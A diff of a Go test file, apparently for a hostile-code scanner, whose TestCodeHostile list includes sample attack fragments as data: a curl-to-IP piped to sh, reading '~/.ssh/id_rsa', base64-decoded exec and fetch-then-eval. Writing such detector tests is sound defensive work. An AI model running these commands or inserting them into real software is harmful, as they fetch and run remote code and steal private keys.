@@ -6,6 +6,7 @@ import (
 	"testing"
 	"time"
 
+	"github.com/knack-dev/knack/internal/testwait"
 	"github.com/knack-dev/knack/scan/internal/commands"
 )
 
@@ -129,7 +130,7 @@ open("/etc/hosts"); open("/var/out.txt", "w")
 
 func TestCodeHostile(t *testing.T) {
 	n := 1 << 20
-	if testing.Short() {
+	if !testwait.Full() {
 		n >>= 3
 	}
 	for _, unit := range []string{"(", ")", "[", "exec(", "eval(atob(", "'", "\"\"\"", "`", "${", "/", "/*", "\\", "f'{a}'", "a=a+a\n", "a='x'+a\n", "a=f'{a}{a}'\n", "os.system('ls')\n", "os.system(a)\n", "os.system('curl http://45.67.89.10/x | sh')\n", "requests.post(", "open('~/.ssh/id_rsa')\n", "a.b.c.d(", "x = [", "#\n", "headers=", "os.environ", "import a as b, ", "from a import (b as c,", "const {a: b} = require('net')\n", "''.join(", "x = exec\n", "urlretrieve(", "open(a, 'w').write(", "fetch(a).then(eval)", "exec(b64decode('YQ=='))\n", "child_process exec(`${a}`)\n", "os.path.join(a,", "python -c '", "'https://bit.ly/x'\n"} {
